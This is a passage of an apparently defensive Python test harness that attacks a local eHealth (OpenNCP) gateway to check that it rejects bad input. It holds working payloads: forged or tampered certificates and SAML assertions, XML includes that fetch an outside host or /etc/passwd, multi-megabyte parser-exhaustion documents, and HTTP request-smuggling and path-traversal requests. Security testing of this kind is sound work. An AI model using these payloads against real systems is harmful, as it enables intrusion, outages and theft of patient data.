    yield "of itself under the right name", make(issuer_key=key)
    yield "expired", make(start=-20, days=-1)
    yield "not yet valid", make(start=1)
    yield "revoked", make(serial=revoked)
    yield "of an authority", make(ca=True, usages=("digital_signature", "key_cert_sign"))
    yield "without constraints, that certifies", make(constrained=False, usages=("digital_signature", "key_cert_sign"))
    yield "of an end that certifies", make(usages=("digital_signature", "key_cert_sign"))
    yield "without key usage", make(usages=())
    yield "for encipherment alone", make(usages=("key_encipherment",))
    yield "by SHA-1", sha1(good, authority_key)
    yield "with an extension that must be known", make(
        more=[(x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.55555.7"), b"\x05\0"), True)])
    yield "of another country", make(subject=(("C", "ES"), ("O", "C=PT"), ("CN", "C=PT")))
    yield "of two countries", make(subject=(("C", "PT"), ("C", "ES"), ("CN", "test")))
    yield "of no country", make(subject=(("O", "C=PT"), ("CN", "C=PT")))
    yield "changed after signing", good.replace(b"test", b"tesd", 1)
    yield "of 64 KiB", make(more=[
        (x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.55555.8"), b"\x04\x83\1\0\0" + b"x" * 65536), False)])
    if use == "client":
        yield "for servers alone", make(extended=[ExtendedKeyUsageOID.SERVER_AUTH])
        yield "for mail alone", make(extended=[ExtendedKeyUsageOID.EMAIL_PROTECTION])
        yield "for anything", make(extended=[ExtendedKeyUsageOID.ANY_EXTENDED_KEY_USAGE])
        yield "for nothing in particular", make(extended=[])
    else:
        # A client's library would write these anew, or not show them at all.
        yield "with bytes behind", good + b"\0"
        yield "cut", good[:-1]
        yield "with a longer length than DER has", b"\x30\x83\0" + good[2:]
        yield "as PEM in base 64", f"-----BEGIN CERTIFICATE-----{base64.b64encode(good).decode()}".encode()
        yield "for clients too", make(extended=[ExtendedKeyUsageOID.CLIENT_AUTH, ExtendedKeyUsageOID.EMAIL_PROTECTION])
        yield "for anything", make(extended=[ExtendedKeyUsageOID.ANY_EXTENDED_KEY_USAGE])


def sha1(der, key):
    """A certificate signed anew with SHA-1, which the library would not do: both algorithm identifiers are exchanged."""
    made = x509.load_der_x509_certificate(der)
    old = made.signature_algorithm_oid.dotted_string
    assert old == "1.2.840.10045.4.3.2", old
    before, after = b"\x06\x08\x2a\x86\x48\xce\x3d\x04\x03\x02", b"\x06\x07\x2a\x86\x48\xce\x3d\x04\x01"
    inner = made.tbs_certificate_bytes.replace(b"\x30\x0a" + before, b"\x30\x09" + after, 1)
    inner = sequence(inner[4:] if inner[1] == 0x82 else inner[3:])
    value = key.sign(inner, ec.ECDSA(hashes.SHA1()))
    return sequence(inner + b"\x30\x09" + after + b"\x03" + length_of(len(value) + 1) + b"\0" + value)


def length_of(count):
    return bytes([count]) if count < 128 else b"\x81" + bytes([count]) if count < 256 else b"\x82" + count.to_bytes(2, "big")


def sequence(content):
    return b"\x30" + length_of(len(content)) + content


def confirmed(forger, pki, patient):
    """Treatment confirmations under a right HCP assertion."""
    name, plain = professional(pki)
    hcp = forger.sign(plain)
    right = treatment(pki, name, patient)
    quoted = patient.replace("&", "&amp;")
    other = attribute("XSPA Subject", f"{XSPA}:subject-id", quoted.replace("^^^", "9^^^"))
    reference = f"<saml2:AssertionIDRef>{name}</saml2:AssertionIDRef>"

    def case(edit):
        return [hcp, forger.sign(edit(right))]

    yield "without a qualifier", case(swap(' NameQualifier="urn:ehdsi:assertions:trc"', ""))
    yield "of another HCP assertion", case(swap(f">{name}<", ">_other<"))
    yield "of two HCP assertions", case(swap(reference, reference + "<saml2:AssertionIDRef>_other</saml2:AssertionIDRef>"))
    yield "of none", case(drop(r"<saml2:Advice>.*?</saml2:Advice>"))
    yield "that names it by address", case(swap(reference, f"<saml2:AssertionURIRef>#{name}</saml2:AssertionURIRef>"))
    yield "with a comment in the reference", case(swap(f">{name}<", f">{name[:9]}<!-- -->{name[9:]}x<"))
    yield "about another patient", case(swap(quoted, quoted.replace("^^^", "9^^^")))
    yield "about two patients", case(swap("<saml2:AttributeStatement>", "<saml2:AttributeStatement>" + other))
    yield "about a patient and a second value", case(swap(f"{quoted}</saml2:AttributeValue>", f"{quoted}</saml2:AttributeValue><saml2:AttributeValue>x</saml2:AttributeValue>"))
    yield "about a patient with a comment", case(swap(quoted, quoted.replace("^^^", "<!-- -->^^^")))
    yield "for another purpose", case(swap('code="EMERGENCY"', 'code="TREATMENT"'))
    yield "of another professional", case(swap("rui.costa", "eva.else"))
    yield "of another format of the name", case(swap("nameid-format:unspecified", "nameid-format:emailAddress"))
    yield "of three hours", case(conditions(at(-1), at(179)))
    yield "for another audience", case(swap(openncp.AUDIENCE, "urn:x"))
    yield "of a sign-in", case(swap(CLASSES + "PreviousSession", CLASSES + "SmartcardPKI"))
    yield "of the identity provider", case(swap("urn:initgw:PT:countryB", "urn:idp:PT:countryB"))
    yield "for bearers", case(swap("cm:sender-vouches", "cm:bearer"))
    yield "as HCP assertion", case(swap("assertions:trc", "assertions:hcp"))
    yield "that is older than its HCP assertion allows", case(put("IssueInstant", at(-300)))
    yield "by the TLS client", [hcp, forger.sign(right, key=forger.client_key)]
    yield "without a signature", [hcp, right]
    yield "alone", [forger.sign(right)]
    yield "twice", [hcp, forger.sign(right), forger.sign(right.replace('ID="_', 'ID="_2'))]
    yield "with a next of kin of no right", [forger.sign(right.replace("assertions:trc", "assertions:nok").replace('ID="_', 'ID="_3')), hcp, forger.sign(right)]


# MARK: Messages


def messages(forger, pki, work):
    """What is wrong with the message around right assertions: content type and text."""
    def fresh():
        name, text = professional(pki)
        return forger.sign(text)

    soap = f'application/soap+xml; charset=UTF-8; action="{XCPD[1]}"'
    body = openncp.discovery(work)
    right = lambda **more: envelope(XCPD[1], [fresh()], body, **more)
    yield "UTF-16", "application/soap+xml; charset=UTF-16", right().replace("UTF-8", "UTF-16").encode("utf-16")
    yield "said to be ISO 8859-1", soap, right().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode()
    yield "XML 1.1", soap, right().replace('version="1.0"', 'version="1.1"', 1).encode()
    yield "an overlong form", soap, right().encode().replace(b"Rui", b"\xc1\x92ui")
    yield "half a surrogate", soap, right().encode().replace(b"Rui", b"\xed\xa0\x80ui")
    yield "a reference to NUL", soap, right(header="<x xmlns='urn:x'>&#0;</x>").encode()
    yield "a name of a colon", soap, right(header="<:x/>").encode()
    yield "a prefix of nobody", soap, right(header="<q:x/>").encode()
    yield "an attribute twice by two prefixes", soap, right(header="<x xmlns:a='urn:x' xmlns:b='urn:x' a:c='1' b:c='2'/>").encode()
    yield "the prefix xml for another", soap, right(header="<x xmlns:xml='urn:x'/>").encode()
    yield "two headers", soap, right().replace("<s:Body>", "<s:Header/><s:Body>").encode()
    yield "body before header", soap, re.sub(r"(<s:Header.*</s:Header>)(<s:Body>.*</s:Body>)", r"\2\1", right(), flags=re.S).encode()
    yield "two children of the body", soap, right().replace("</s:Body>", "<x/></s:Body>").encode()
    yield "something after the envelope", soap, (right() + "<x/>").encode()
    yield "SOAP 1.1", "text/xml", right().replace(SOAP, "http://schemas.xmlsoap.org/soap/envelope/").encode()
    yield "two actions", soap, right(header=f"<wsa:Action>{LIST[1]}</wsa:Action>").encode()
    yield "two message identifiers", soap, right(header="<wsa:MessageID>urn:uuid:1</wsa:MessageID>").encode()
    yield "no message identifier", soap, re.sub(r"<wsa:MessageID>.*?</wsa:MessageID>", "", right()).encode()
    yield "another's address", soap, right(header="<wsa:To>https://es.localhost/</wsa:To>").encode()
    yield "an unknown block to be understood", soap, right(header='<x xmlns="urn:x" s:mustUnderstand="true"/>').encode()
    yield "an answer to be sent elsewhere", soap, right(header=f"<wsa:ReplyTo><wsa:Address>{AWAY}/</wsa:Address></wsa:ReplyTo>").encode()
    yield "a fault to be sent elsewhere", soap, right(header=f"<wsa:FaultTo><wsa:Address>{AWAY}/</wsa:Address></wsa:FaultTo>").encode()
    yield "an action in the type that is not the block's", soap.replace(XCPD[1], LIST[1]), right().encode()
    yield "an inclusion", soap, right(header=f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{AWAY}/"/>').encode()
    yield "a stylesheet", soap, right().replace("?>", f'?><?xml-stylesheet href="{AWAY}/"?><!DOCTYPE x>', 1).encode()
    yield "another's receiver", soap, envelope(XCPD[1], [fresh()], openncp.discovery(dict(work, receiver="2.999.724.1"))).encode()
    yield "another's sender", soap, envelope(XCPD[1], [fresh()], openncp.discovery(dict(work, sender="2.999.724.1"))).encode()
    yield "no content type", "", right().encode()
    yield "JSON", "application/json", right().encode()
    included = '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{}"/>'
    outside = right(header=f"<x xmlns='urn:x'>{included.format(AWAY + '/x')}</x>")
    yield "an include outside of MTOM", soap, outside.encode()

    def multipart(parts, start="root", more="", boundary="b", kind="application/xop+xml", close=True):
        text = b""
        for name, content, head in parts:
            kind_of = head or f'application/xop+xml; charset=UTF-8; type="application/soap+xml"'
            text += f"--b\r\nContent-Type: {kind_of}\r\nContent-ID: <{name}>\r\n\r\n".encode() + content + b"\r\n"
        text += b"--b--\r\n" if close else b""
        return f'multipart/related; boundary="{boundary}"; type="{kind}"; start="<{start}>"; start-info="application/soap+xml"{more}', text

    root = right().encode()
    with_part = lambda href: right(header=f"<x xmlns='urn:x'>{included.format(href)}</x>").encode()
    binary = ("p1", b"xxxx", "application/octet-stream")
    for name, made in [
        ("a start that is missing", multipart([("other", root, "")])),
        ("two starts", multipart([("root", right().encode(), ""), ("root", root, "")])),
        ("two parts of one name", multipart([("root", with_part("cid:p1"), ""), binary, binary])),
        ("an include of another name", multipart([("root", with_part("cid:p2"), ""), binary])),
        ("an include of the root", multipart([("root", with_part("cid:root"), "")])),
        ("an include by http", multipart([("root", with_part(f"{AWAY}/x"), ""), binary])),
        ("an include of a file", multipart([("root", with_part("file:///etc/passwd"), ""), binary])),
        ("an include without reference", multipart([("root", right(header=f"<x xmlns='urn:x'>{included.replace(' href=', ' ref=')}</x>").encode(), ""), binary])),
        ("another boundary", multipart([("root", root, "")], boundary="c")),
        ("no end", multipart([("root", root, "")], close=False)),
        ("two boundaries", multipart([("root", root, "")], more='; boundary="c"')),
        ("two start parameters", multipart([("root", root, ""), ("p2", root, "")], more='; start="<p2>"')),
        ("a boundary of 200 characters", multipart([("root", root, "")], boundary="b" * 200)),
        ("seventeen parts", multipart([("root", root, "")] + [(f"p{i}", b"x", "text/plain") for i in range(17)])),
        ("a root of another encoding", multipart([("root", root, 'application/xop+xml; charset=UTF-16; type="application/soap+xml"')])),
        ("a multipart in the multipart", multipart([("root", root, 'multipart/related; boundary="x"')])),
        ("a part by which the signature is completed", multipart([
            ("root", re.sub(r"<ds:X509Certificate>.*?</ds:X509Certificate>", f"<ds:X509Certificate>{included.format('cid:p1')}</ds:X509Certificate>", right()).encode(), ""),
            ("p1", base64.b64decode(forger.certificate), "application/octet-stream")])),
    ]:
        yield name, *made


def heavy(forger, pki, work):
    """What would be much work: messages near the limits of their size, and such that grow when they are read."""
    _, text = professional(pki)
    right = forger.sign(text)
    body = openncp.discovery(work)

    def around(inside="", security="", assertion=right, within=""):
        inside = f'<x xmlns="urn:x">{inside}</x>' if inside else ""
        return envelope(XCPD[1], [assertion], body.replace("<controlActProcess", within + "<controlActProcess"), inside, security).encode()

    many = lambda count, made: "".join(made(number) for number in range(count))
    yield "ten megabytes of text", around("<y>" + "x" * 8_000_000 + "</y><y>" + "x" * 2_000_000 + "</y>")
    yield "eleven megabytes", around("<y>" + "x" * 8_000_000 + "</y><y>" + "x" * 3_000_000 + "</y>")
    yield "eleven megabytes that do not end", around("x" * 11_000_000)[:-20]
    yield "half a million elements", around("<y/>" * 490_000)
    yield "half a million elements in the body", around(within="<y/>" * 490_000)
    yield "half a million elements with text between", around("<y/>x" * 490_000)
    yield "half a million elements beside the assertion", around(security="<y/>" * 490_000)
    yield "half a million elements in the assertion", around(assertion=right.replace("<saml2:Subject>", "<saml2:Subject>" + "<y/>" * 490_000))
    yield "half a million empty identifiers", around('<y id=""/>' * 490_000)
    yield "half a million identifiers", around(many(490_000, lambda n: f'<y id="i{n}"/>'))
    yield "two hundred thousand names of five kinds", around(many(200_000, lambda n: f'<y ID="a{n}" Id="b{n}" id="c{n}" xml:id="d{n}"/>'))
    yield "half a million names of one", around('<y id="a"/>' * 490_000)
    yield "128 attributes on each of 4,000 elements", around(f"<y {many(127, lambda n: f'a{n}={chr(34)}{chr(34)} ')}/>" * 4000)
    yield "attributes of 64 KiB", around(f'<y a="{"x" * 65_000}"/>' * 150)
    yield "512 namespaces, 64 a level", around(many(8, lambda n: f"<y {many(63, lambda m: f'xmlns:n{n}_{m}={chr(34)}urn:{m}{chr(34)} ')}>") + "</y>" * 8)
    yield "a depth of 120, many times over", around(("<y>" * 120 + "</y>" * 120) * 4000)
    yield "a depth of 100,000", around("<y>" * 100_000)
    yield "two million references to characters", around("<y>" + "&#65;" * 2_000_000 + "</y>")
    yield "two million references to a sign", around("<y>" + "&lt;" * 2_400_000 + "</y>")
    yield "800,000 sections of CDATA", around("<y>" + "<![CDATA[]]>" * 800_000 + "</y>")
    yield "800,000 sections of CDATA with a letter", around("<y>" + "<![CDATA[x]]>" * 750_000 + "</y>")
    yield "64 KiB of comments", around("<!---->" * 8000)
    yield "ten megabytes of comments", around("<!---->" * 1_400_000)
    yield "ten megabytes of instructions", around("<?x?>" * 2_000_000)
    yield "ten megabytes of blanks behind the end", around() + b" " * 10_000_000
    yield "ten megabytes of blanks in a tag", around(f"<y{' ' * 10_000_000}/>")
    yield "ten megabytes of an open quotation mark", around()[:-20] + b'<y a="' + b"x" * 10_000_000
    yield "ten megabytes of an open comment", around()[:-20] + b"<!--" + b"x" * 10_000_000
    yield "ten megabytes of opening brackets", around()[:-20] + b"<" * 10_000_000
    yield "ten megabytes of ampersands", around()[:-20] + b"&" * 10_000_000
    yield "ten megabytes of a name", around()[:-20] + b"<" + b"x" * 10_000_000
    yield "a certificate of eight megabytes", around(assertion=re.sub(
        "<ds:X509Certificate>.*?<", f"<ds:X509Certificate>{'A' * 8_000_000}<", right))
    yield "a digest of eight megabytes", around(assertion=re.sub("<ds:DigestValue>.*?<", f"<ds:DigestValue>{'A' * 8_000_000}<", right))
    yield "a signature of eight megabytes", around(assertion=re.sub(
        "<ds:SignatureValue>.*?<", f"<ds:SignatureValue>{'A' * 8_000_000}<", right))
    yield "a signature of eight megabytes of line ends", around(assertion=re.sub(
        "<ds:SignatureValue>", "<ds:SignatureValue>" + "\n" * 8_000_000, right))
    yield "a thousand assertions", around(security=right * 300)
    yield "a name of the list of 64 KiB", around(assertion=forger.sign(text, prefixes=" ".join(f"p{n}" for n in range(10_000))))
    yield "a hundred thousand transforms", around(assertion=right.replace("</ds:Transforms>", f'<ds:Transform Algorithm="{EXCLUSIVE}"/>' * 100_000 + "</ds:Transforms>"))
    yield "a hundred thousand references", around(assertion=right.replace("<ds:Reference ", '<ds:Reference URI="#x"/>' * 100_000 + "<ds:Reference ", 1))
    yield "a hundred thousand X509Data", around(assertion=right.replace("<ds:X509Data>", "<ds:X509Data/>" * 100_000 + "<ds:X509Data>", 1))
    yield "an action of eight megabytes", around().replace(XCPD[1].encode() + b"</wsa:Action>", b"x" * 8_000_000 + b"</wsa:Action>")
    yield "a message identifier of eight megabytes", re.sub(rb"urn:uuid:[^<]*", b"x" * 8_000_000, around())
    yield "a hundred thousand actions", around().replace(b"<wsa:MessageID>", b"<wsa:Action>x</wsa:Action>" * 100_000 + b"<wsa:MessageID>")
    yield "a hundred thousand identifiers of the patient", around(within="").replace(
        b"<livingSubjectId>", b'<livingSubjectId><value root="1.2" extension="1"/></livingSubjectId>' * 100_000 + b"<livingSubjectId>", 1)
    yield "a time stamp of eight megabytes", around(security='<u:Timestamp xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"><u:Created>' + "2" * 8_000_000 + "</u:Created></u:Timestamp>")


def controls(forger, pki, work):
    """What is right, in forms that few write."""
    # A professional asks once a second at most.
    numbers = itertools.count()

    def plain():
        return professional(pki)[1].replace("rui.costa", f"rui.costa.{next(numbers)}")

    def right(**more):
        return envelope(XCPD[1], [forger.sign(plain())], body, **more)

    body = openncp.discovery(work)
    soap = "application/soap+xml"
    typed = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xs="http://www.w3.org/2001/XMLSchema" xsi:type="xs:string"'
    yield "as it is", soap, right()
    yield "with a byte order mark", soap, "\ufeff" + right()
    yield "without declaration", soap, right().split("?>", 1)[1].lstrip()
    yield "with single quotes in the declaration", soap, right().replace('version="1.0" encoding="UTF-8"', "version='1.0' encoding='utf-8'", 1)
    yield "with line ends between", soap, right().replace("><wsa:", ">\n  <wsa:")
    yield "with a comment outside", soap, right().replace("<s:Body>", "<!-- a comment --><s:Body>")
    yield "with an instruction before", soap, right().replace("?>", "?><?hint x?>", 1)
    yield "with another prefix", soap, right().replace("<s:", "<env:").replace("</s:", "</env:").replace("xmlns:s=", "xmlns:env=").replace(" s:must", " env:must")
    yield "with a block that need not be understood", soap, right(header='<x xmlns="urn:x">y</x>')
    yield "with types of values", soap, envelope(XCPD[1], [forger.sign(plain().replace(
        "<saml2:AttributeValue>", f"<saml2:AttributeValue {typed}>"))], body)
    yield "with prefixes of its signature", soap, envelope(XCPD[1], [forger.sign(plain().replace(
        "<saml2:AttributeValue>", f"<saml2:AttributeValue {typed}>"), prefixes="xs")], body)
    yield "with a treatment confirmation, which nobody reads here", soap, right(security='<w xmlns="urn:w"/>')
    yield "with the action in the type alone", f'{soap}; charset=UTF-8; action="{XCPD[1]}"', re.sub("<wsa:Action.*?</wsa:Action>", "", right())


# MARK: HTTP


def requests(right):
    """Requests whose two readers would see two things, or that ask for what a service does not do."""
    path = "/openncp-ws-server/services/XCPD_Service"
    kind = b"Content-Type: application/soap+xml\r\n"
    head = lambda more, method="POST", version="1.1", where=path: f"{method} {where} HTTP/{version}\r\nHost: fr.localhost\r\n".encode() + kind + more + b"\r\n"
    length = lambda count: f"Content-Length: {count}\r\n".encode()
    chunk = lambda text: f"{len(text):x}\r\n".encode() + text + b"\r\n"
    whole = chunk(right) + b"0\r\n\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n"
    hidden = b"0\r\n\r\nGET /openncp-ws-server/hidden HTTP/1.1\r\nHost: x\r\n\r\n"
    yield "a length beside chunks", head(length(5) + chunked) + whole
    yield "a length behind chunks", head(chunked + length(len(right))) + whole
    yield "two lengths", head(length(5) + length(len(right))) + right
    yield "a list of lengths", head(f"Content-Length: 5, {len(right)}\r\n".encode()) + right
    yield "a length with a sign", head(f"Content-Length: +{len(right)}\r\n".encode()) + right
    yield "a length below zero", head(b"Content-Length: -1\r\n") + right
    yield "a length in hexadecimal", head(f"Content-Length: 0x{len(right):x}\r\n".encode()) + right
    yield "a length beyond 64 bits", head(b"Content-Length: 18446744073709551621\r\n") + right
    yield "a length with a blank before the colon", head(f"Content-Length : {len(right)}\r\n".encode()) + right
    yield "chunks said twice", head(b"Transfer-Encoding: chunked, chunked\r\n") + whole
    yield "chunks before another coding", head(b"Transfer-Encoding: chunked, identity\r\n") + whole
    yield "chunks of another spelling", head(b"Transfer-Encoding: xchunked\r\n") + whole
    yield "chunks behind a tab", head(b"Transfer-Encoding:\tchunked\x0b\r\n") + whole
    yield "a chunk of a false size", head(chunked) + b"5\r\n" + right + b"\r\n0\r\n\r\n"
    yield "a chunk size below zero", head(chunked) + b"-1\r\n" + right
    yield "a chunk size beyond 64 bits", head(chunked) + b"FFFFFFFFFFFFFFFFF\r\n" + right
    yield "a chunk size of blanks", head(chunked) + b" \r\n" + right
    yield "a second request inside", head(length(len(hidden)) + chunked) + hidden
    yield "a folded field", head(length(len(right)) + b"X: a\r\n b\r\n\tc\r\n") + right
    yield "a field of a line end", head(length(len(right)) + b"X: a\rY: b\r\n") + right
    yield "a field of NUL", head(length(len(right)) + b"X: a\0b\r\n") + right
    yield "a field without a name", head(length(len(right)) + b": x\r\n") + right
    yield "no host", head(length(len(right))).replace(b"Host: fr.localhost\r\n", b"") + right
    yield "two hosts", head(length(len(right)) + b"Host: es.localhost\r\n") + right
    yield "HTTP 3.0", head(length(len(right)), version="3.0") + right
    yield "another method", head(length(len(right)), method="PUT") + right
    yield "a tunnel", b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n"
    yield "another's address", head(length(len(right)), where=f"{AWAY}/") + right
    yield "a way around", head(length(len(right)), where="/openncp-ws-server/services/x/../XCPD_Service/../../admin") + right
    yield "a coded way", head(length(len(right)), where="/openncp-ws-server/services/%2e%2e/XCPD_Service") + right
    yield "a compressed body", head(length(20) + b"Content-Encoding: gzip\r\n") + b"\x1f\x8b" + b"\0" * 18
    yield "another protocol", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "an upgrade", head(length(0) + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\n")
    yield "no HTTP", b"\x16\x03\x01\x02\0\x01\0\x01\xfc" + b"\0" * 200


# MARK: Sending


class Wire:
    def __init__(self, pki, work):
        self.port = work["port"]
        self.context = ssl.create_default_context(cafile=f"{pki}/fr/ca.pem")
        self.context.load_cert_chain(f"{pki}/openncp-client.pem", f"{pki}/openncp-client.key")

    def exchange(self, octets):
        """The answers to one connection: statuses in order and all that was sent back."""
        start = time.monotonic()
        got = b""
        with socket.create_connection(("127.0.0.1", self.port), timeout=60) as plain:
            try:
                with self.context.wrap_socket(plain, server_hostname="fr.localhost") as tls:
                    try:
                        tls.sendall(octets)
                    except (ConnectionError, ssl.SSLError):
                        # What was said before the end is read all the same.
                        pass
                    while not self.is_whole(got):
                        part = tls.recv(65536)
                        if not part:
                            break
                        got += part
            except (ConnectionError, ssl.SSLError, TimeoutError):
                pass
        return got, time.monotonic() - start

    @staticmethod
    def is_whole(got):
        head, end, body = got.partition(b"\r\n\r\n")
        length = re.search(rb"content-length: *(\d+)", head, re.I)
        return bool(end and length and len(body) >= int(length[1]))

    @staticmethod
    def request(target, kind, body):
        service, action = target
        head = f"POST /openncp-ws-server/services/{service} HTTP/1.1\r\nHost: fr.localhost\r\n"
        head += f"Content-Type: {kind}\r\n" if kind else ""
        return f"{head}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body

    def showing(self, pki, certificate):
        """The same under another certificate of the client's key; None where the library itself cannot show it."""
        other = object.__new__(Wire)
        other.port = self.port
        other.context = ssl.create_default_context(cafile=f"{pki}/fr/ca.pem")
        text = ssl.DER_cert_to_PEM_cert(certificate)
        with open(f"{pki}/attacker.pem", "w") as file:
            file.write(text)
        try:
            other.context.set_ciphers("DEFAULT@SECLEVEL=0")
            other.context.load_cert_chain(f"{pki}/attacker.pem", f"{pki}/openncp-client.key")
        except ssl.SSLError:
            return None
        return other


class Memory:
    """Resident memory of the gateway, in KiB (proc(5)); nothing where no process is named."""

    def __init__(self, process):
        self.folder = f"/proc/{process}" if process else None

    def start(self):
        if not self.folder:
            return
        try:
            with open(f"{self.folder}/clear_refs", "w") as file:
                file.write("5")
        except PermissionError:
            # Then the peak since its start counts.
            pass
        self.before = self.read("VmRSS")

    def growth(self):
        return max(0, self.read("VmHWM") - self.before) if self.folder else None

    def read(self, name):
        with open(f"{self.folder}/status") as file:
            return int(re.search(rf"{name}:\s*(\d+)", file.read())[1])


def tell(group, name, got, took, grown, size):
    status = re.match(rb"HTTP/1.1 (\d+)", got)
    codes = re.findall(rb'errorCode="([^"]*)"', got) + re.findall(rb'<(?:\w+:)?code [^>]*?code="([^"]*)"', got)
    leaks = any(word in got for word in (b"patientPerson", b"ClinicalDocument", b"ExtrinsicObject", b"root:x", EVIL.encode()))
    print(json.dumps({
        "group": group, "name": name, "status": int(status[1]) if status else 0, "seconds": took, "leaks": leaks,
        "codes": [code.decode() for code in codes], "grown": grown, "size": size, "visits": TRAP.visits,
    }), flush=True)


def unnamed(forger, pki):
    """Long messages to the endpoint of two transactions; nothing before the message tells which of them is meant."""
    right = forger.sign(professional(pki)[1])
    for name, inside in [
        ("long, of one letter", "<y>" + "R" * 8_000_000 + "</y>"),
        ("long, of a word", "<y>" + "RetrieveDocumentSetReques" * 320_000 + "</y>"),
        ("half a million identifiers for either transaction", "".join(f'<y id="i{n}"/>' for n in range(490_000))),
    ]:
        yield name, envelope(RETRIEVE[1], [right], f'<x xmlns="urn:x">{inside}</x>').encode()


def attacks(forger, wire, pki, work):
    """By group: a function that gives names, connections to use, and the octets to send on them."""
    body = openncp.discovery(work)
    soap = "application/soap+xml"

    def fresh():
        return professional(pki)[1]

    def discover(assertions, header="", more=""):
        return wire.request(XCPD, soap, envelope(XCPD[1], assertions, more or body, header).encode())

    def assertion_made(make):
        return lambda: ((name, wire, discover([made])) for name, made in make(forger, fresh()))

    def around(inside):
        return body.replace("<controlActProcess", inside + "<controlActProcess") if inside else ""

    def right():
        return envelope(XCPD[1], [forger.sign(fresh())], body).encode()

    def later():
        """The same assertions at the retrieve, where the query's checks are made anew; for a document that nobody listed."""
        asked = openncp.retrieve("2.999.33.1", "2.999.33.1^PS.XML")
        body = envelope(RETRIEVE[1], ["{}"], asked)

        def message(assertions):
            return wire.request(RETRIEVE, soap, body.replace("{}", "".join(assertions), 1).replace(
                "urn:uuid:", f"urn:uuid:{uuid.uuid4()}-", 1).encode())

        for name, edit in said():
            if name in ("a role with another name", "no permission to identify"):
                continue
            ident, plain = professional(pki)
            yield name, wire, message([forger.sign(edit(plain)), forger.sign(treatment(pki, ident, work["patient"]))])
        for name, made in signed(forger, fresh()):
            ident = re.search(r'ID="([^"]*)"', made)[1]
            yield name, wire, message([made, forger.sign(treatment(pki, ident, work["patient"]))])
        for name, made in confirmed(forger, pki, work["patient"]):
            # A retrieve names no patient beside its confirmation's.
            if name != "about another patient":
                yield name, wire, message(made)

    def shown():
        for name, certificate in variants(pki, forger.client_key, "client"):
            other = wire.showing(pki, certificate)
            if other:
                yield name, other, wire.request(XCPD, soap, right())

    return {
        "said": lambda: ((name, wire, discover([forger.sign(edit(fresh()))])) for name, edit in said()),
        "signed": assertion_made(signed),
        "certified": assertion_made(lambda forger, text: certified(forger, pki, text)),
        "wrapped": lambda: (
            (name, wire, discover(assertions, header, around(inside)))
            for name, assertions, header, inside in wrapped(forger, *professional(pki))),
        "confirmed": lambda: (
            (name, wire, wire.request(LIST, soap, envelope(LIST[1], made, openncp.query(work["patient"])).encode()))
            for name, made in confirmed(forger, pki, work["patient"])),
        "again": later,
        "message": lambda: (
            (name, wire, wire.request(XCPD, kind, octets)) for name, kind, octets in messages(forger, pki, work)),
        "heavy": lambda: itertools.chain(
            ((name, wire, wire.request(XCPD, soap, octets)) for name, octets in heavy(forger, pki, work)),
            ((name, wire, wire.request(LIST, soap, octets)) for name, octets in unnamed(forger, pki))),
        "http": lambda: ((name, wire, octets) for name, octets in requests(right())),
        "connection": shown,
        "controls": lambda: (
            (name, wire, wire.request(XCPD, kind, text.encode())) for name, kind, text in controls(forger, pki, work)),
    }


def main(pki, work, groups):
    wire, memory = Wire(pki, work), Memory(work.get("process"))
    made = attacks(Forger(pki), wire, pki, work)
    for group in groups or [group for group in made if group != "controls"]:
        for name, on, octets in made[group]():
            memory.start()
            got, took = on.exchange(octets)
            tell(group, name, got, took, memory.growth(), len(octets))


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]), sys.argv[3:])
